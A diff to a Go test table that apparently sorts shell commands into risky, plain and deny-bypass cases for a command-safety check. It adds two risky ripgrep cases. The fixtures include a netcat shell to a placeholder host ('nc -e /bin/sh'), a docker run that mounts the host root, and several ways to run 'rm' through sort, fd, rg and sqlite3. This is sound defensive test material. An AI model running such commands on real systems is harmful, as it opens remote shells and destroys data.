@@ -82,7 +82,7 @@ var programExamples = map[string]programExample{
 	"docker": {risky: []string{`docker run -v /:/h alpine touch /h/x`, `docker exec c touch x`, `docker build .`, `podman run x`}, plain: []string{`docker ps`, `docker images`, `docker logs c`}, throughDeny: []string{`docker run alpine rm f`}},
 	"nc":     {risky: []string{`nc -e /bin/sh h 1`, `ncat --sh-exec 'touch x' h 1`, `nc -c x h 1`}, plain: []string{`nc -z h 80`}, throughDeny: []string{`nc -e /bin/rm h 1`}},
 	"sort":   {risky: []string{`sort -o out f`, `sort --compress-program=x f`}, plain: []string{`sort -u f`, `sort -k2 -n f`}, throughDeny: []string{`sort --compress-program=rm f`}},
-	"rg":     {risky: []string{`rg --pre 'touch' x`, `rg --pre=x y`}, plain: []string{`rg -n foo`, `rg --files`}, throughDeny: []string{`rg --pre rm x`}},
+	"rg":     {risky: []string{`rg --pre 'touch' x`, `rg --pre=x y`, `rg --hostname-bin=x y`, `rg -z y`}, plain: []string{`rg -n foo`, `rg --files`}, throughDeny: []string{`rg --pre rm x`}},
 	"fd":     {risky: []string{`fd -x touch`, `fd . --exec-batch touch`}, plain: []string{`fd -e go`}, throughDeny: []string{`fd -x rm`}},
 	"sqlite3": {risky: []string{`sqlite3 db '.shell touch x'`, `sqlite3 db`, `sqlite3 -cmd '.system x' db 'select 1'`, `sqlite3 db '.output f' 'select 1'`}, plain: []string{`sqlite3 db 'select 1'`},
 		throughDeny: []string{`sqlite3 db '.shell rm f'`, `echo '.shell rm f' | sqlite3 db`}},
